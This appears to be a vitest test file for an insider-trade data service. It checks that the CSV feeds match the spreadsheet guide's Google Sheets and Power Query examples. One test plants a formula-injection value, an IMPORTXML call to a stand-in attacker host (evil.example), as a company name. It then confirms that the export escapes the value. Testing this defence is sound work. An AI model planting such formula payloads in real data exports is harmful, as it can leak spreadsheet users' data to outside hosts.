// The guide to spreadsheets: what its formulas and queries request, fetched as Google Sheets and Excel fetch it, has the
// columns that they name.
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, expect, it } from "vitest";
import { createFeed } from "../../src/accounts/feeds.ts";
import { packageRoot } from "../../src/lib/package-root.ts";
import { type Service, startSeededService, unlimitedKey } from "../support/service.ts";

const guide = readFileSync(join(packageRoot, "docs/guides/spreadsheets.md"), "utf8");
const blocks = (language: string) =>
  [...guide.matchAll(new RegExp(`^\`\`\`${language}\\n(.*?)^\`\`\``, "gms"))].map(([, text = ""]) => text);

let service: Service;
/** a server that redirects to the service, as one does whose http address leads to https */
let door: Server;
let feed: string;
beforeAll(async () => {
  service = await startSeededService();
  const { accountId } = await service.newKey("max");
  const input = { account: accountId, list: "trades", filters: "tradeTypes=P", name: "Sheet", actor: "test" } as const;
  const { token } = await createFeed(service.store, input);
  feed = `/feeds/${token}.csv`;
  door = createServer((request, response) =>
    response.writeHead(301, { location: `${service.base}${request.url}` }).end(),
  ).listen(0, "127.0.0.1");
  await once(door, "listening");
});
afterAll(async () => {
  door.close();
  await service.stop();
});

/** Without a key or a header of its own, and along the redirect. */
async function fetched(path: string): Promise<string[][]> {
  const address = `http://127.0.0.1:${(door.address() as AddressInfo).port}${path}`;
  const response = await fetch(address, { headers: { accept: "*/*", "user-agent": "Mozilla/5.0 (compatible)" } });
  expect([response.status, response.headers.get("content-type")]).toEqual([
    ...[200, expect.stringMatching(/^text\/csv; charset=utf-8/)],
  ]);
  return parse(await response.text()) as string[][];
}

/** The names in `{"filing_date", type date}`. */
const typed = (query: string) => [...query.matchAll(/\{"(\w+)", type (\w+)\}/g)].map(([, name, type]) => [name, type]);

it("Google Sheets gets the feed without a key, and the guide's numbers are those of the columns", async () => {
  const [first = "", second = ""] = blocks("text");
  expect(first).toContain("/feeds/<token>.csv");
  const [header = [], ...rows] = await fetched(feed);
  expect(rows.length).toBeGreaterThan(0);
  const chosen = [...second.matchAll(/Col(\d+)/g)].map(([, number]) => header[Number(number) - 1]);
  expect(chosen).toEqual(["filing_date", "ticker", "company_name", "insider_name", "value"]);
});

it("Excel gets the feed and, with the key, the list, with the columns that the queries convert", async () => {
  const [ofFeed = "", ofList = ""] = blocks("powerquery");
  const [header = []] = await fetched(feed);
  expect(typed(ofFeed).length).toBeGreaterThan(0);
  expect(typed(ofFeed).filter(([name]) => !header.includes(name ?? ""))).toEqual([]);
  const [, path] = /RelativePath = "([^"]+)"/.exec(ofList) ?? [];
  const [, record = ""] = /Query = \[(.*?)\]/s.exec(ofList) ?? [];
  const query = new URLSearchParams(
    [...record.matchAll(/(\w+) = "([^"]*)"/g)].map(([, name = "", value = ""]) => [name, value]),
  );
  const { status, text } = await service.get(`/${path}?${query}`, await unlimitedKey(service));
  expect([status, query.get("format")]).toEqual([200, "csv"]);
  const [columns = [], ...rows] = parse(text) as string[][];
  expect(columns.join()).toBe(query.get("fields"));
  expect(rows.length).toBeGreaterThan(0);
  for (const [name = "", type] of typed(ofList)) {
    const cells = rows.map((row) => row[columns.indexOf(name)] ?? "absent").filter((cell) => cell !== "");
    const form = type === "date" ? /^\d{4}-\d{2}-\d{2}$/ : /^-?\d+(\.\d+)?$/;
    expect([name, cells.filter((cell) => !form.test(cell))]).toEqual([name, []]);
  }
});

it("a name that is a formula is text in the sheet", async () => {
  const before = await service.store.pool.query("SELECT cik, name FROM companies");
  await service.store.pool.query(`UPDATE companies SET name = '=IMPORTXML("https://evil.example", "//a")'`);
  const [header = [], ...rows] = await fetched(feed);
  const names = new Set(rows.map((row) => row[header.indexOf("company_name")]));
  for (const { cik, name } of before.rows)
    await service.store.pool.query("UPDATE companies SET name = $2 WHERE cik = $1", [cik, name]);
  expect(names).toEqual(new Set([`'=IMPORTXML("https://evil.example", "//a")`]));
});
